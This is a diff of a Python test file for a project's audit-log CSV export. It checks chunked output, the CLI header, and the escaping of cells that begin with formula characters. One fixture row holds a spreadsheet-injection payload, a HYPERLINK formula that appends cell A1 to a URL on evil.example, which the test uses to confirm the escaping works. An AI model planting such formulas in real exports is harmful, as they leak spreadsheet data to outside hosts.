@@ -14,7 +14,7 @@ from conftest import ADMIN, PL, SG1, SG2, WR
 
 from wijkflow import provenance, services
 from wijkflow.app import App
-from wijkflow.cli.audit_commands import QUERY_CSV, _gate_cell
+from wijkflow.audit_columns import COLUMNS
 from wijkflow.services.audit_export import csv_chunks, csv_rows
 from wijkflow.spreadsheet import CsvWriter
 
@@ -32,19 +32,15 @@ def _fixed_origin():
         yield
 
 
-def gate_cell(gate):
-    return _gate_cell({"gate": gate})
-
-
 def by_csv_writer(app: App, **filters) -> str:
     """The plain way: every row through the one CSV writer (csv.writer, a cell with a CR quoted)."""
     out = io.StringIO()
-    CsvWriter(out).writerows(csv_rows(app, gate_cell=gate_cell, **filters))
+    CsvWriter(out).writerows(csv_rows(app, **filters))
     return out.getvalue()
 
 
 def by_chunks(app: App, **filters) -> str:
-    return "".join(text for _, text in csv_chunks(app, gate_cell=gate_cell, **filters))
+    return "".join(text for _, text in csv_chunks(app, **filters))
 
 
 def raw_event(conn: sa.Connection, at: str, **cols) -> None:
@@ -137,7 +133,7 @@ def test_the_export_writes_the_bytes_it_always_wrote(db_url, clock, tmp_path, tr
 def test_the_command_writes_the_header_and_the_same_rows(app, tricky, run):
     r = run("audit", "query", "--format", "csv")
     assert r.exit_code == 0, r.stderr
-    assert r.stdout == ",".join(QUERY_CSV) + "\n" + by_csv_writer(app)
+    assert r.stdout == ",".join(COLUMNS) + "\n" + by_csv_writer(app)
     r = run("audit", "query", "--format", "csv", "--aanpak", "wijkaanpak-noord", "--type", "nothing_like_it")
     assert r.exit_code == 2 and r.stdout == ""
 
@@ -146,7 +142,7 @@ def test_small_batches_and_an_empty_history(app):
     assert by_chunks(app) == by_csv_writer(app) == ""
     services.add_person(app, ADMIN, name="Ada, Admin", role="admin")
     assert by_csv_writer(app).count("\n") == 1
-    assert "".join(t for _, t in csv_chunks(app, gate_cell=gate_cell, batch=1)) == by_csv_writer(app)
+    assert "".join(t for _, t in csv_chunks(app, batch=1)) == by_csv_writer(app)
 
 
 
@@ -158,7 +154,7 @@ def test_the_export_quotes_would_be_formulas_and_raw_keeps_them(app, aanpak):
         raw_event(conn, "2026-12-31 23:45:00.000000", reason='=HYPERLINK("http://evil.example/?"&A1,"klik")',
                   evidence="-3.5", from_phase="@x", to_phase="+y", type="-z")
     safe = list(csv.reader(io.StringIO(by_chunks(app))))
-    raw = list(csv.reader(io.StringIO("".join(t for _, t in csv_chunks(app, gate_cell=gate_cell, raw=True)))))
+    raw = list(csv.reader(io.StringIO("".join(t for _, t in csv_chunks(app, raw=True)))))
     assert len(safe) == len(raw)
     changed = {(s, r) for srow, rrow in zip(safe, raw, strict=True) for s, r in zip(srow, rrow, strict=True) if s != r}
     assert changed == {("'=1+1", "=1+1"), ("'@x", "@x"), ("'+y", "+y"), ("'-z", "-z"),
